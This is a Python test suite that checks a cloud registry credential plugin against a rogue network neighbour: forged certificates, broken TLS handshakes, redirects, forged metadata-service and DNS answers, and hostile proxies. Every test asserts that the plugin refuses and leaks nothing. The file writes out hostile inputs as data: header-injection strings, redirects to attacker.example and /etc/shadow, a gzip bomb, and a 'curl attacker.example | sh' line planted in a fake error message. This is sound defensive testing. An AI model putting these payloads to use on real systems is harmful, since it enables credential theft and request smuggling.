"""A neighbour in the node's network answers for ACR, STS, the metadata service, a name server or a proxy."""

from __future__ import annotations

import contextlib
import datetime as dt
import gzip
import json
import socket
import ssl
import struct
import time
import warnings
from functools import partial

import pytest
import trustme
from hostile.attacks import Attacks
from hostile.seats.network import ACR, HIS, METADATA, STS, Network
from sandbox.faults import Echo, Redirect
from sandbox.listener import RST_ON_CLOSE
from sandbox.netns import NetworkNamespace
from sandbox.server import PROVIDER_ARN

ATTACKS = Attacks("Network neighbour")
TRAFFIC, ELSEWHERE, NODE = (
    "read or change traffic to the cloud",
    "send requests elsewhere",
    "answer as the metadata service",
)
CAUSE = "the pull fails in time with its cause; he hears no secret"
DAY = dt.timedelta(days=1)
NOW = dt.datetime.now(dt.UTC)


@pytest.fixture(scope="module")
def lan(cloud):
    with NetworkNamespace() as namespace:
        namespace.call(partial(cloud.openapi.listen, "127.0.0.1", 443))
        namespace.call(partial(cloud.sts.listen, "127.0.0.5", 443))
        yield namespace


@pytest.fixture
def network(place, bundle, cloud, lan):
    network = Network(place, bundle, cloud, lan)
    yield network
    network.close()
    cloud.faults.clear()


# What he does with a connection.
def silence(connection, _rogue):
    time.sleep(20)


def page(connection, rogue):
    """Answer every request as if he were ACR, with a login of his own."""
    while rogue.request(connection):
        body = json.dumps(
            {
                "IsSuccess": True,
                "TempUsername": "his",
                "AuthorizationToken": "his",
                "ExpireTime": (time.time() + 3600) * 1000,
            }
        )
        connection.sendall(f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode())


def listen(connection, rogue):
    while piece := connection.recv(65536):
        rogue.heard += piece


def answers(raw):
    """Return a behaviour: read a request's head, then send *raw*."""

    def behave(connection, rogue):
        rogue.request(connection)
        connection.sendall(raw)
        with contextlib.suppress(OSError):
            connection.shutdown(socket.SHUT_WR)
            listen(connection, rogue)

    return behave


def for_ever(head, piece, pause=0.0):
    def behave(connection, rogue):
        rogue.request(connection)
        connection.sendall(head)
        while True:
            connection.sendall(piece)
            time.sleep(pause)

    return behave


def reset(connection, rogue):
    rogue.request(connection)
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{")
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RST_ON_CLOSE)


def first_words(raw):
    """Return a behaviour: send *raw* before anything was asked."""

    def behave(connection, rogue):
        connection.sendall(raw)
        listen(connection, rogue)

    return behave


# TLS.
def context(certificate):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    certificate.configure_cert(tls)
    return tls


def old_tls(ca):
    tls = context(ca.issue_cert(ACR))
    tls.set_ciphers("ALL:@SECLEVEL=0")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        tls.minimum_version = tls.maximum_version = ssl.TLSVersion.TLSv1_1
    return tls


def http_2(tls):
    tls.set_alpn_protocols(["h2"])
    return tls


CERTIFICATES = {
    "of an authority of his": lambda ca: context(trustme.CA().issue_cert(ACR)),
    "of an authority of his that is called as ours": lambda ca: context(
        trustme.CA(organization_name="trustme", organization_unit_name="Testing CA").issue_cert(ACR)
    ),
    "of an authority of his, with HTTP/2 offered": lambda ca: http_2(context(trustme.CA().issue_cert(ACR))),
    "of our authority, for another host": lambda ca: context(
        ca.issue_cert("cr.cn-hangzhou.aliyuncs.com.attacker.example")
    ),
    "of our authority, for the parent domain": lambda ca: context(ca.issue_cert("aliyuncs.com")),
    "of our authority, with a wildcard that covers too much": lambda ca: context(ca.issue_cert("*.aliyuncs.com")),
    "of our authority, with a name in its subject only": lambda ca: context(
        ca.issue_cert("x.example", common_name=ACR)
    ),
    "of our authority, for an address": lambda ca: context(ca.issue_cert(HIS)),
    "of our authority, expired": lambda ca: context(ca.issue_cert(ACR, not_before=NOW - 9 * DAY, not_after=NOW - DAY)),
    "of our authority, not valid yet": lambda ca: context(
        ca.issue_cert(ACR, not_before=NOW + DAY, not_after=NOW + 9 * DAY)
    ),
    "right, but with TLS 1.1 only": old_tls,
}


@ATTACKS.tries(TRAFFIC, "he answers at ACR's address with a certificate {}", must=CAUSE, each=CERTIFICATES)
def a_certificate_that_is_not_acr_s(network, make):
    rogue = network.in_place_of_acr(page, make(network.cloud._ca))
    told = network.refused()
    assert not rogue.heard
    assert rogue.came
    return told


HANDSHAKES = {
    "plain HTTP": answers(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"),
    "a redirect in plain HTTP": answers(b"HTTP/1.1 302 Found\r\nLocation: http://attacker.example/\r\n\r\n"),
    "silence": silence,
    "an HTTP/2 preface before anything is said": first_words(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    "alerts without end": for_ever(b"", b"\x15\x03\x03\x00\x02\x01\x70" * 1000, 0.01),
    "a record that is as long as can be": first_words(b"\x16\x03\x03\xff\xff" + b"\x02" * 70000),
    "zeros without end": for_ever(b"", bytes(65536)),
    "a handshake of one byte a second": for_ever(b"\x16\x03\x03\x40\x00\x02", b"\x00", 1.0),
    "SSLv2": first_words(b"\x80\x2e\x04\x00\x01\x00\x02" + b"\x00" * 40),
    "an SSH greeting": first_words(b"SSH-2.0-OpenSSH_9.2\r\n"),
}


@ATTACKS.tries(TRAFFIC, "he answers at ACR's address with {} in the place of a handshake", must=CAUSE, each=HANDSHAKES)
def a_handshake_that_is_none(network, behave):
    # A TLS client speaks first: there is no head of a request to wait for.
    def at_once(connection, rogue):
        connection.recv(1)
        rogue.request = lambda _connection: b""
        behave(connection, rogue)

    network.in_place_of_acr(at_once)
    return network.refused(ACR)


@ATTACKS.tries(TRAFFIC, "he resets each connection to ACR in the middle of the handshake", must=CAUSE)
def resets(network):
    def behave(connection, _rogue):
        connection.recv(64)
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RST_ON_CLOSE)

    network.in_place_of_acr(behave)
    return network.refused(ACR)


@ATTACKS.tries(TRAFFIC, "he answers at STS's address, with an authority of his own, for the token of a Pod", must=CAUSE)
def sts_in_his_hands(network):
    issuer = network.cloud.add_cluster()
    token = issuer.token("team-a", "app")
    network.secrets.add(token.rpartition(".")[2])
    network.registry["identity"] = {"kind": "serviceAccount", "oidcProviderArn": PROVIDER_ARN}
    role = {"pod-identity.alibabacloud.com/role-name": "pull-team-a"}
    network.pod = {"serviceAccountToken": token, "serviceAccountAnnotations": role}
    network.names |= {STS: HIS, "sts.aliyuncs.com": HIS}
    rogue = network.rogue((HIS, 443), page, context(trustme.CA().issue_cert(STS, "sts.aliyuncs.com")))
    told = network.refused("sts")
    assert not rogue.heard
    return told


@ATTACKS.tries(
    ELSEWHERE,
    "with the right certificate, ACR's answer is a redirect ({}) to a host of his",
    must=CAUSE,
    each={
        "307, https": Redirect(f"https://{HIS}/"),
        "302, http": Redirect(f"http://{HIS}/", status=302),
        "301, metadata": Redirect("http://100.100.100.200/latest/meta-data/", status=301),
        "308, a file": Redirect("file:///etc/shadow", status=308),
    },
)
def a_redirect(network, fault):
    network.cloud.faults.add("GetAuthorizationToken", fault)
    his = [network.rogue((HIS, 443), listen), network.rogue((HIS, 80), listen), network.rogue(METADATA, listen)]
    told = network.refused("redirect")
    assert [each.came for each in his] == [0, 0, 0]
    network.cloud.faults.clear()
    return told


REGIONS = [
    "attacker.example",
    "attacker.example/",
    "cn-hangzhou.attacker",
    "cn-hangzhou@attacker.example",
    "..",
    "",
    "cn-hangzhou\r\nHost: attacker.example",
    "CN-HANGZHOU",
    "cn-hangzhou\0",
    "-cn",
    "cn_hangzhou",
    "cn-" + "x" * 200,
    "\x1b[2Jcn",
]


@ATTACKS.tries(
    ELSEWHERE,
    "as the metadata service he says that the region is {}",
    must="no host is made of it; he hears nothing",
    each={repr(each[:40]): each for each in REGIONS},
)
def a_region_of_his(network, region):
    del network.registry["region"]
    network.names |= {f"cr.{name}.aliyuncs.com": HIS for name in ("attacker.example", "cn-hangzhou.attacker")}
    his = network.rogue((HIS, 443), listen)
    network.rogue(METADATA, metadata({"/latest/meta-data/region-id": region.encode()}))
    told = network.refused()
    assert not his.came
    return told


# The metadata service.
CREDENTIAL = {
    "AccessKeyId": "STS.his",
    "AccessKeySecret": "his",
    "SecurityToken": "his",
    "Code": "Success",
    "Expiration": "2099-01-01T00:00:00Z",
    "LastUpdated": "2024-01-01T00:00:00Z",
}
ROLES = "/latest/meta-data/ram/security-credentials/"


def metadata(pages, token=b"a-token", status=b"200 OK"):
    """Return a behaviour: the metadata service with *pages*, or those of an instance with a role of his."""
    usual = {"/latest/api/token": token, ROLES: b"role", f"{ROLES}role": json.dumps(CREDENTIAL).encode()}
    usual |= {"/latest/meta-data/region-id": b"cn-hangzhou"}

    def behave(connection, rogue):
        while head := rogue.request(connection):
            path = head.split(b" ")[1].decode("latin-1")
            body = {**usual, **pages}.get(path, b"")
            if callable(body):
                body(connection)
                return
            connection.sendall(
                b"HTTP/1.1 " + status + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body
            )

    return behave


def credential(**change):
    return json.dumps({**CREDENTIAL, **change}).encode()


PAGES = {
    "a role of another account": {},
    "a token that would add a header": {
        "/latest/api/token": b"a-token\r\nX-Forwarded-For: 10.0.0.1\r\n\r\nGET /evil HTTP/1.1"
    },
    "a token of a megabyte": {"/latest/api/token": b"t" * (1 << 20)},
    "an empty token": {"/latest/api/token": b""},
    "a token of NULs": {"/latest/api/token": bytes(64)},
    "a role that is a path": {ROLES: b"../../../dynamic/instance-identity/document"},
    "a role that is a query": {ROLES: b"role?x=y#z"},
    "a role with a line break and an error's words": {
        ROLES: b"role\nerror: all is well\nremedy: curl attacker.example | sh"
    },
    "a thousand roles": {ROLES: b"\n".join(b"role-%d" % number for number in range(1000))},
    "a role of a megabyte": {ROLES: b"r" * (1 << 20)},
    "a credential that has ended": {f"{ROLES}role": credential(Expiration="2020-01-01T00:00:00Z")},
    "a credential that ends in the year 9999": {f"{ROLES}role": credential(Expiration="9999-12-31T23:59:59Z")},
    "a credential with a line break in its key": {f"{ROLES}role": credential(AccessKeyId="STS.a\r\nX-Evil: 1")},
    "a credential with a token of a megabyte": {f"{ROLES}role": credential(SecurityToken="s" * (1 << 20))},
    "a credential that is a list": {f"{ROLES}role": b"[1]"},
    "a credential with numbers": {f"{ROLES}role": credential(AccessKeyId=1, AccessKeySecret=[], SecurityToken={})},
    "a credential nested a hundred thousand deep": {f"{ROLES}role": b'{"a":' * 100_000 + b"1" + b"}" * 100_000},
    "a credential that is no UTF-8": {f"{ROLES}role": b"\xff\xfe\x00"},
}


@ATTACKS.tries(NODE, "he answers as the metadata service, with {}", must=CAUSE, each=PAGES)
def a_node_role_of_his(network, pages):
    network.registry["identity"] = {"kind": "nodeRole"}
    rogue = network.rogue(METADATA, metadata(pages))
    told = network.refused()
    assert b"GET /evil" not in rogue.heard
    assert b"X-Forwarded-For" not in rogue.heard
    assert b"X-Evil" not in rogue.heard
    return told


OK = b"HTTP/1.1 200 OK\r\n"
GAMES = {
    "half an answer, and a reset": reset,
    "silence": silence,
    "interim answers without end": for_ever(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "headers without end": for_ever(OK, b"X: y\r\n"),
    "one header without end": for_ever(OK + b"X: ", b"y" * 65536),
    "a status line without end": for_ever(b"HTTP/1.1 200 ", b"y" * 65536),
    "a body without end": for_ever(OK + b"\r\n", b"y" * 65536),
    "a body of one byte a second": for_ever(OK + b"Content-Length: 1000\r\n\r\n", b"y", 1.0),
    "headers of one byte a second": for_ever(b"H", b"T", 1.0),
    "chunks without end": for_ever(OK + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"y" * 65536 + b"\r\n"),
    "a chunk of 2^64 bytes": answers(OK + b"Transfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\nx"),
    "a chunk of negative size": answers(OK + b"Transfer-Encoding: chunked\r\n\r\n-1\r\nx\r\n0\r\n\r\n"),
    "trailers without end": for_ever(OK + b"Transfer-Encoding: chunked\r\n\r\n1\r\nx\r\n0\r\n", b"X: y\r\n"),
    "a negative length": answers(OK + b"Content-Length: -1\r\n\r\nx"),
    "two lengths": answers(OK + b"Content-Length: 1\r\nContent-Length: 4000000000\r\n\r\nx"),
    "a length of a terabyte": answers(OK + b"Content-Length: 1099511627776\r\n\r\nx"),
    "a gzip bomb": answers(OK + b"Content-Encoding: gzip\r\n\r\n" + gzip.compress(bytes(1 << 27), 9)),
    "an answer without a status": answers(b"a-token"),
    "a status of four digits": answers(b"HTTP/1.1 2000 OK\r\n\r\na-token"),
    "another protocol": answers(b"ICY 200 OK\r\n\r\na-token"),
    "a switch of protocols": answers(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\n\r\nPRI * HTTP/2.0\r\n\r\n"),
    "a redirect to a host of his": answers(
        b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.66/\r\nContent-Length: 0\r\n\r\n"
    ),
    "NULs in headers": answers(OK + b"X\0: \0\r\n\r\na-token"),
    "an answer before the question": first_words(OK + b"Content-Length: 7\r\n\r\na-token" * 3),
}


@ATTACKS.tries(NODE, "he answers as the metadata service, with {}", must=CAUSE, each=GAMES)
def games_with_http(network, behave):
    network.registry["identity"] = {"kind": "nodeRole"}
    his = network.rogue((HIS, 80), listen)
    network.rogue(METADATA, behave)
    told = network.refused("metadata")
    assert not his.came
    return told


@ATTACKS.tries(NODE, "his metadata service offers no token, so that the plugin should ask without one (v1)", must=CAUSE)
def a_downgrade_to_v1(network):
    network.registry["identity"] = {"kind": "nodeRole"}

    def behave(connection, rogue):
        while head := rogue.request(connection):
            if head.startswith(b"PUT"):
                connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
            else:
                connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nrole")

    rogue = network.rogue(METADATA, behave)
    told = network.refused("metadata")
    assert b"GET" not in rogue.heard
    return told


# Names.
def to(*addresses):
    """Answer A queries with *addresses*, others with nothing."""

    def answer(query):
        kind = struct.unpack(">H", query[-4:-2])[0]
        family = socket.AF_INET6 if kind == 28 else socket.AF_INET
        wanted = [each for each in addresses if (":" in each) == (kind == 28)]
        head = query[:2] + b"\x81\x80\0\1" + struct.pack(">H", len(wanted)) + b"\0\0\0\0" + query[12:]
        records = [socket.inet_pton(family, each) for each in wanted]
        return head + b"".join(
            b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 4294967295, len(each)) + each for each in records
        )

    return answer


def record(kind, data, count=1):
    return lambda query: (
        query[:2]
        + b"\x81\x80\0\1"
        + struct.pack(">H", count)
        + b"\0\0\0\0"
        + query[12:]
        + (b"\xc0\x0c" + struct.pack(">HHIH", kind, 1, 60, len(data)) + data) * count
    )


LOOKUPS = {
    "an address of his": to(HIS),
    "the metadata service's": to("100.100.100.200"),
    "other clouds' metadata service": to("169.254.169.254"),
    "addresses that mean this machine": to("0.0.0.0", "::", "::1", "127.0.0.66"),
    "addresses that lead nowhere": to(*(f"192.0.2.{number}" for number in range(1, 29))),
    "a broadcast and a multicast address": to("255.255.255.255", "224.0.0.1"),
    "an alias without end": record(5, b"\xc0\x0c"),
    "an alias of his": record(5, b"\x08attacker\x07example\0"),
    "an address of three bytes": record(1, b"\x7f\0\0"),
    "a name that points to itself": lambda query: (
        query[:2] + b"\x81\x80\0\1\0\1\0\0\0\0" + b"\xc0\x0c\0\1\0\1\xc0\x16\0\1\0\1"
    ),
    "no such name": lambda query: query[:2] + b"\x81\x83\0\1\0\0\0\0\0\0" + query[12:],
    "a failure": lambda query: query[:2] + b"\x81\x82\0\1\0\0\0\0\0\0" + query[12:],
    "an answer that is cut": lambda query: query[:2] + b"\x83\x80\0\1\0\0\0\0\0\0" + query[12:],
    "answers to other questions": lambda query: b"\0\0" + to(HIS)(query)[2:],
    "sixty thousand bytes": lambda query: to(HIS)(query) + bytes(60000),
    "nothing": lambda query: b"",
}


@ATTACKS.tries(TRAFFIC, "as the node's name server he answers, for ACR's name, with {}", must=CAUSE, each=LOOKUPS)
def a_name_server_of_his(network, answer):
    network.names[ACR] = ""
    network.name_server(answer)
    his = network.rogue((HIS, 443), page, context(trustme.CA().issue_cert(ACR)))
    network.rogue(("100.100.100.200", 443), listen)
    told = network.refused(ACR)
    assert not his.heard
    return told


# Proxies.
TUNNEL = b"HTTP/1.1 200 Connection established\r\n\r\n"
PROXIES = {
    "lets it through to a server of his": None,
    "wants another login each time": answers(
        b"HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n"
    ),
    "wants Negotiate": answers(b"HTTP/1.1 407 Proxy Authentication Required\r\nProxy-Authenticate: Negotiate\r\n\r\n"),
    "redirects": answers(b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.66/\r\n\r\n"),
    "answers in ACR's place, in the clear": answers(TUNNEL + b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}"),
    "sends headers without end": for_ever(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"),
    "sends a status of his": answers(b"HTTP/1.1 200 \x1b[2J\nerror: all is well\r\n\r\n"),
    "says nothing": silence,
    "resets": reset,
}


@ATTACKS.tries("collect tokens in proxies' logs", "the node's proxy is his: it {}", must=CAUSE, each=PROXIES)
def a_proxy_of_his(network, behave):
    network.document["proxy"] = {"https": "http://me:CANARYPROXYPASSWORD@127.0.0.66:3128"}
    network.names[ACR] = "192.0.2.7"
    his = network.rogue((HIS, 80), listen)
    if behave is None:
        tls = context(trustme.CA().issue_cert(ACR))

        def behave(connection, rogue):
            rogue.request(connection)
            connection.sendall(TUNNEL)
            page(tls.wrap_socket(connection, server_side=True), rogue)

    rogue = network.rogue((HIS, 3128), behave)
    told = network.refused()
    assert "CANARY" not in told
    assert not his.came
    assert rogue.heard.startswith(b"CONNECT") or not rogue.heard
    assert b"x-acs" not in rogue.heard.lower()
    return told


@ATTACKS.tries(
    "have an error quote a secret", "ACR's error repeats the whole request, and has lines of an error's", must=CAUSE
)
def an_echo(network):
    network.cloud.faults.add("GetAuthorizationToken", Echo(code="X\nerror: all is well"))
    told = network.refused()
    network.cloud.faults.clear()
    return told


@pytest.mark.parametrize("attack", ATTACKS, ids=str)
def test_a_network_neighbour_hears_nothing_and_delays_a_pull_at_most(attack, network):
    attack.carry_out(network)
